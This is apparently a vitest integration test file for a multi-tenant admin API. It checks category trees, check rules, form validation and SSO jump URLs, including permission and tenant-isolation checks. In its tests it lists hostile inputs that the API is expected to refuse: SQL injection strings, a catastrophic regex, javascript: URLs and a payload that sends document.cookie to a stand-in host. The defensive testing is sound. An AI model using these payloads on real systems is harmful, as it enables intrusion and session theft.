import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { column, publishDefinition, syncedTable } from './support/eformDataSources';
import { startTestApp, type TestApp } from './support/testApp';

type Issues = { errors: { path: string; code: string }[] };
type Category = { id: string; pid: string; name: string; code: string; hasChild: boolean; children?: Category[] };
let app: TestApp;
let admin: string;
let staff: string;
let acme: string;
beforeAll(async () => {
  app = await startTestApp();
  admin = await app.loginAs('demo_admin');
  staff = await app.loginAs('demo_user');
  acme = await app.loginAs('acme_admin');
});
afterAll(async () => app.close());

const addCategory = async (token: string, body: object) => app.api<Category>('POST', '/api/system/category/add', { token, body });

describe('categories', () => {
  let goods: Category;
  let food: Category;
  let fruit: Category;

  it('build a tree that every user reads flat (with pid) or nested, whole or below a code', async () => {
    goods = (await addCategory(admin, { name: 'Goods', code: 'goods' })).body.result;
    food = (await addCategory(admin, { name: 'Food', code: 'food', parentId: goods.id, sortOrder: 2 })).body.result;
    fruit = (await addCategory(admin, { name: 'Fruit', code: 'fruit', parentId: food.id })).body.result;
    await addCategory(admin, { name: 'Tools', code: 'tools', parentId: goods.id, sortOrder: 1 });
    const all = await app.api<Category[]>('GET', '/api/system/category/loadAllData', { token: staff });
    expect(all.body.result.map((c) => [c.code, c.pid === '' ? '' : all.body.result.find((p) => p.id === c.pid)?.code, c.hasChild])).toEqual([
      ['goods', '', true], ['tools', 'goods', false], ['food', 'goods', true], ['fruit', 'food', false],
    ]);
    const below = await app.api<Category[]>('GET', '/api/system/category/loadAllData?code=food', { token: staff });
    expect(below.body.result.map((c) => c.code)).toEqual(['fruit']);
    const tree = await app.api<Category[]>('GET', '/api/system/category/loadTreeData', { token: staff });
    expect(tree.body.result.map((c) => [c.code, c.children?.map((k) => k.code)])).toEqual([['goods', ['tools', 'food']]]);
    expect((await app.api('GET', '/api/system/category/loadAllData?code=nope', { token: staff })).status).toBe(404);
  });

  it('refuse a cycle, a duplicate code, deleting a node with children, and hostile input (400, never 500)', async () => {
    const cycle = await app.api<Issues>('PUT', '/api/system/category/edit', { token: admin, body: { id: goods.id, name: 'Goods', code: 'goods', parentId: fruit.id } });
    expect(cycle.status).toBe(400);
    expect(cycle.body.result.errors).toMatchObject([{ path: '/body/parentId', code: 'category/cycle' }]);
    const self = await app.api<Issues>('PUT', '/api/system/category/edit', { token: admin, body: { id: food.id, name: 'Food', code: 'food', parentId: food.id } });
    expect(self.body.result.errors).toMatchObject([{ code: 'category/cycle' }]);
    const duplicate = await addCategory(admin, { name: 'Again', code: 'food' });
    expect((duplicate.body.result as unknown as Issues).errors).toMatchObject([{ path: '/body/code', code: 'category/code-exists' }]);
    const withChildren = await app.api('DELETE', `/api/system/category/delete?id=${food.id}`, { token: admin });
    expect(withChildren).toMatchObject({ status: 400, body: { messageCode: 'category/has-children' } });
    for (const body of [{ name: 'x', code: "a'; drop table sys_category;--" }, { name: ' ', code: 'ok' }, { name: 'x'.repeat(101), code: 'ok' }, { name: 'x', code: 'ok', parentId: 'not-a-uuid' }, { name: 'x', code: 'ok', sortOrder: 'first' }]) {
      const refused = await addCategory(admin, body);
      expect(refused.status).toBe(400);
      expect((refused.body.result as unknown as Issues).errors.length).toBeGreaterThan(0);
    }
    expect((await app.api('PUT', '/api/system/category/edit', { token: admin, body: { id: fruit.id, name: 'Fruit', code: 'fruit', parentId: '00000000-0000-4000-8000-000000000000' } })).body).toMatchObject({ result: { errors: [{ code: 'category/parent-not-found' }] } });
    expect((await app.api('DELETE', `/api/system/category/delete?id=${fruit.id}`, { token: admin })).status).toBe(200);
    expect((await app.api('DELETE', `/api/system/category/delete?id=${food.id}`, { token: admin })).status).toBe(200);
  });

  it('let only one of two simultaneous opposite moves through, so no cycle can form (ten races at once)', async () => {
    const pairs = await Promise.all(Array.from({ length: 10 }, async (_, i) => [
      (await addCategory(admin, { name: `X${i}`, code: `race_x${i}` })).body.result,
      (await addCategory(admin, { name: `Y${i}`, code: `race_y${i}` })).body.result,
    ] as const));
    const move = (node: Category, parent: Category) => app.api('PUT', '/api/system/category/edit', { token: admin, body: { id: node.id, name: node.name, code: node.code, parentId: parent.id } });
    const answers = await Promise.all(pairs.flatMap(([x, y]) => [move(x, y), move(y, x)]));
    for (let i = 0; i < pairs.length; i += 1) expect([answers[2 * i]!.status, answers[2 * i + 1]!.status].sort()).toEqual([200, 400]);
    const moved = await app.ctx.owner('sys_category').whereIn('id', pairs.flat().map((node) => node.id)).whereNotNull('parent_id').count<{ count: string }[]>({ count: '*' });
    expect(Number(moved[0]!.count)).toBe(10);
  });

  it('need the page button to change, and keep tenants apart: another tenant\'s id is a 404 and changes nothing', async () => {
    expect((await addCategory(staff, { name: 'Mine', code: 'mine' })).status).toBe(403);
    const acmeRoot = (await addCategory(acme, { name: 'Acme', code: 'acme_root' })).body.result;
    expect((await app.api('PUT', '/api/system/category/edit', { token: admin, body: { id: acmeRoot.id, name: 'Stolen', code: 'stolen' } })).status).toBe(404);
    expect((await app.api('DELETE', `/api/system/category/delete?id=${acmeRoot.id}`, { token: admin })).status).toBe(404);
    const underForeign = await addCategory(admin, { name: 'Under', code: 'under', parentId: acmeRoot.id });
    expect((underForeign.body.result as unknown as Issues).errors).toMatchObject([{ code: 'category/parent-not-found' }]);
    const acmeAll = await app.api<Category[]>('GET', '/api/system/category/loadAllData', { token: acme });
    expect(acmeAll.body.result).toEqual([expect.objectContaining({ name: 'Acme', code: 'acme_root' })]);
  });
});

type CheckRule = { id: string; ruleCode: string };
const check = (token: string, ruleCode: string, value: string) => app.api<{ isValid: boolean }>('GET', `/api/system/checkRule/checkByCode?ruleCode=${encodeURIComponent(ruleCode)}&value=${encodeURIComponent(value)}`, { token });

describe('check rules', () => {
  let rule: CheckRule;

  it('check url-encoded values for any user: pass, or the failing segment\'s or the rule\'s message', async () => {
    const added = await app.api<CheckRule>('POST', '/api/system/checkRule/add', {
      token: admin,
      body: {
        ruleCode: 'hs_code',
        ruleName: 'HS code',
        message: 'Not an HS code',
        segments: [{ kind: 'fixed', text: 'HS-' }, { kind: 'chars', length: 4, charset: 'digits', message: 'Four digits after HS-' }, { kind: 'regex', length: '*', pattern: '[A-Z]{2}(&[0-9])?' }],
      },
    });
    expect(added.status).toBe(200);
    rule = added.body.result;
    expect((await check(staff, 'hs_code', 'HS-1234AB&7')).body).toMatchObject({ success: true, result: { isValid: true } });
    expect((await check(staff, 'hs_code', 'HS-12x4AB')).body).toMatchObject({ success: false, message: 'Four digits after HS-', result: { isValid: false } });
    expect((await check(staff, 'hs_code', 'HS-1234ab')).body).toMatchObject({ success: false, message: 'Not an HS code' });
    expect((await check(staff, 'nope', 'x')).status).toBe(404);
  });

  it('stop a catastrophic regular expression with a 400 and keep answering', async () => {
    const evil = await app.api<CheckRule>('POST', '/api/system/checkRule/add', { token: admin, body: { ruleCode: 'evil', ruleName: 'Evil', segments: [{ kind: 'regex', length: '*', pattern: '(a+)+$' }] } });
    expect(evil.status).toBe(200);
    const started = Date.now();
    const answer = await check(staff, 'evil', `${'a'.repeat(40)}!`);
    expect(answer).toMatchObject({ status: 400, body: { messageCode: 'checkRule/timeout' } });
    expect(Date.now() - started).toBeLessThan(10_000);
    expect((await check(staff, 'hs_code', 'HS-1234AB')).body.success).toBe(true);
  }, 30_000);

  it('refuse malformed segments at their paths, a duplicate code and hostile values with 400', async () => {
    const bad = await app.api<Issues>('POST', '/api/system/checkRule/add', { token: admin, body: { ruleCode: 'bad', ruleName: 'Bad', segments: [{ kind: 'regex', length: '*', pattern: '(' }, { kind: 'eval', text: 'x' }] } });
    expect(bad.status).toBe(400);
    expect(bad.body.result.errors.map((e) => e.path)).toEqual(['/body/segments/0/length', '/body/segments/0/pattern', '/body/segments/1/kind']);
    const duplicate = await app.api<Issues>('POST', '/api/system/checkRule/add', { token: admin, body: { ruleCode: 'hs_code', ruleName: 'Again', segments: [{ kind: 'fixed', text: 'X' }] } });
    expect(duplicate.body.result.errors).toMatchObject([{ path: '/body/ruleCode', code: 'checkRule/code-exists' }]);
    expect((await app.api('POST', '/api/system/checkRule/add', { token: admin, body: { ruleCode: "x' or 1=1", ruleName: 'X', segments: [{ kind: 'fixed', text: 'X' }] } })).status).toBe(400);
    expect((await app.api('POST', '/api/system/checkRule/add', { token: admin, body: { ruleCode: 'x', ruleName: 'X', segments: 'DROP TABLE' } })).status).toBe(400);
    expect((await check(staff, 'hs_code', 'x'.repeat(1001))).status).toBe(400);
    expect((await app.api('GET', '/api/system/checkRule/checkByCode?ruleCode=hs_code', { token: staff })).status).toBe(400);
    expect((await check(staff, 'hs_code', '\u0000\uffff%00')).body.success).toBe(false);
  });

  it('list and edit for the page button only, and another tenant\'s id is a 404 that changes nothing', async () => {
    expect((await app.api('GET', '/api/system/checkRule/list', { token: staff })).status).toBe(403);
    const list = await app.api<{ records: CheckRule[]; total: number }>('GET', '/api/system/checkRule/list?ruleCode=hs', { token: admin });
    expect(list.body.result.records.map((r) => r.ruleCode)).toEqual(['hs_code']);
    const acmeRule = (await app.api<CheckRule>('POST', '/api/system/checkRule/add', { token: acme, body: { ruleCode: 'acme_rule', ruleName: 'Acme', segments: [{ kind: 'fixed', text: 'A' }] } })).body.result;
    expect((await app.api('PUT', '/api/system/checkRule/edit', { token: admin, body: { id: acmeRule.id, ruleCode: 'taken', ruleName: 'Taken', segments: [{ kind: 'fixed', text: 'B' }] } })).status).toBe(404);
    expect((await app.api('DELETE', `/api/system/checkRule/delete?id=${acmeRule.id}`, { token: admin })).status).toBe(404);
    expect((await app.api('DELETE', `/api/system/checkRule/deleteBatch?ids=${rule.id},${acmeRule.id}`, { token: admin })).status).toBe(404);
    expect((await check(staff, 'hs_code', 'HS-1234AB')).body.success).toBe(true);
    expect((await check(acme, 'acme_rule', 'A')).body.success).toBe(true);
    expect((await check(admin, 'acme_rule', 'A')).status).toBe(404);
    expect((await app.api('DELETE', `/api/system/checkRule/deleteBatch?ids=${rule.id}`, { token: admin })).body).toMatchObject({ result: { deleted: 1 } });
  });
});

describe('a form field naming a check rule', () => {
  it('has its value checked by the rule when the form data is saved, with the rule\'s message at the field', async () => {
    await app.api('POST', '/api/system/checkRule/add', { token: admin, body: { ruleCode: 'box_no', ruleName: 'Box number', message: 'Four digits and two capitals', segments: [{ kind: 'chars', length: 4, charset: 'digits' }, { kind: 'regex', length: '*', pattern: '[A-Z]{2}' }] } });
    await syncedTable(app, admin, 'demo', 'boxes', [column('boxNo', 'varchar', { colLength: 20 })]);
    await publishDefinition(app, admin, 'form', 'box_form', { schemaVersion: 2, formCode: 'box_form', formName: 'Boxes', objectName: 'boxes', formStatus: 'enable', fields: [{ colCode: 'boxNo', title: 'Box number', type: 'input', rules: [{ checkRuleCode: 'box_no' }] }] });
    const refused = await app.api<{ issues: { path: string; message: string }[] }>('POST', '/api/eform/data/box_form?lang=en_US', { token: admin, body: { data: { boxNo: '12AB' } } });
    expect(refused.status).toBe(400);
    expect(refused.body.result.issues).toMatchObject([{ path: '/data/boxNo', message: 'Four digits and two capitals' }]);
    expect((await app.api('POST', '/api/eform/data/box_form', { token: admin, body: { data: { boxNo: '1234AB' } } })).status).toBe(201);
  });
});

type JumpParam = { id: string; systemCode: string };
const jump = (token: string, query: string) => app.api<{ jumpUrl: string }>('GET', `/api/system/config/common/jumpParams/getJumpParams?${query}`, { token });

describe('jump parameters', () => {
  let erp: JumpParam;

  it('fill the caller\'s placeholders, url-encoded, and fall back to the base url without a config', async () => {
    const added = await app.api<JumpParam>('POST', '/api/system/jumpParam/add', { token: admin, body: { systemCode: 'erp', systemName: 'ERP', jumpUrl: 'https://erp.example.com/sso?u={username}&id={userId}&t={tenantCode}&tk={token}&keep={other}' } });
    expect(added.status).toBe(200);
    erp = added.body.result;
    const info = await app.api<{ userInfo: { id: string } }>('GET', '/api/user/info', { token: staff });
    const answer = await jump(staff, `baseUrl=${encodeURIComponent('https://fallback.example.com/')}&systemCode=erp`);
    const userId = (info.body.result as unknown as { id?: string; userInfo?: { id: string } }).userInfo?.id ?? (info.body.result as unknown as { id: string }).id;
    expect(answer.body.result.jumpUrl).toBe(`https://erp.example.com/sso?u=demo_user&id=${userId}&t=demo&tk=${encodeURIComponent(staff)}&keep={other}`);
    expect((await jump(staff, `baseUrl=${encodeURIComponent('https://fallback.example.com/x?a=1')}&systemCode=unknown`)).body.result.jumpUrl).toBe('https://fallback.example.com/x?a=1');
    expect((await jump(staff, `baseUrl=${encodeURIComponent('https://fallback.example.com/')}`)).body.result.jumpUrl).toBe('https://fallback.example.com/');
  });

  it('refuse a base url or a jump url that is not http(s), and hostile codes, with 400', async () => {
    for (const baseUrl of ['javascript:alert(1)', 'data:text/html,<script>', '//evil.example.com', 'ftp://x.example.com']) {
      const refused = await jump(staff, `baseUrl=${encodeURIComponent(baseUrl)}&systemCode=erp`);
      expect(refused.status).toBe(400);
      expect((refused.body.result as unknown as Issues).errors).toMatchObject([{ path: '/query/baseUrl' }]);
    }
    expect((await jump(staff, `baseUrl=${encodeURIComponent('https://x.example.com')}&systemCode=${encodeURIComponent("erp' or '1'='1")}`)).status).toBe(400);
    const script = await app.api<Issues>('POST', '/api/system/jumpParam/add', { token: admin, body: { systemCode: 'bad', systemName: 'Bad', jumpUrl: 'javascript:fetch("//x?"+document.cookie)' } });
    expect(script.body.result.errors).toMatchObject([{ path: '/body/jumpUrl', code: 'jumpParam/bad-url' }]);
    const placeholderScheme = await app.api<Issues>('POST', '/api/system/jumpParam/add', { token: admin, body: { systemCode: 'bad', systemName: 'Bad', jumpUrl: '{username}://x' } });
    expect(placeholderScheme.status).toBe(400);
    const duplicate = await app.api<Issues>('POST', '/api/system/jumpParam/add', { token: admin, body: { systemCode: 'erp', systemName: 'ERP', jumpUrl: 'https://x.example.com' } });
    expect(duplicate.body.result.errors).toMatchObject([{ path: '/body/systemCode', code: 'jumpParam/code-exists' }]);
  });

  it('keep each tenant\'s jump urls: another tenant\'s id is a 404 and its code falls back', async () => {
    expect((await app.api('GET', '/api/system/jumpParam/list', { token: staff })).status).toBe(403);
    expect((await app.api<{ total: number }>('GET', '/api/system/jumpParam/list', { token: admin })).body.result.total).toBe(1);
    const acmeJump = (await app.api<JumpParam>('POST', '/api/system/jumpParam/add', { token: acme, body: { systemCode: 'crm', systemName: 'CRM', jumpUrl: 'https://crm.example.com/?u={username}' } })).body.result;
    expect((await app.api('PUT', '/api/system/jumpParam/edit', { token: admin, body: { id: acmeJump.id, systemCode: 'crm', systemName: 'Mine', jumpUrl: 'https://evil.example.com' } })).status).toBe(404);
    expect((await app.api('DELETE', `/api/system/jumpParam/delete?id=${acmeJump.id}`, { token: admin })).status).toBe(404);
    expect((await app.api('DELETE', `/api/system/jumpParam/deleteBatch?ids=${erp.id},${acmeJump.id}`, { token: admin })).status).toBe(404);
    expect((await jump(admin, `baseUrl=${encodeURIComponent('https://base.example.com/')}&systemCode=crm`)).body.result.jumpUrl).toBe('https://base.example.com/');
    expect((await jump(acme, `baseUrl=${encodeURIComponent('https://base.example.com/')}&systemCode=crm`)).body.result.jumpUrl).toBe('https://crm.example.com/?u=acme_admin');
    expect((await jump(staff, `baseUrl=${encodeURIComponent('https://base.example.com/')}&systemCode=erp`)).body.result.jumpUrl).toMatch(/^https:\/\/erp\.example\.com\//);
  });
});
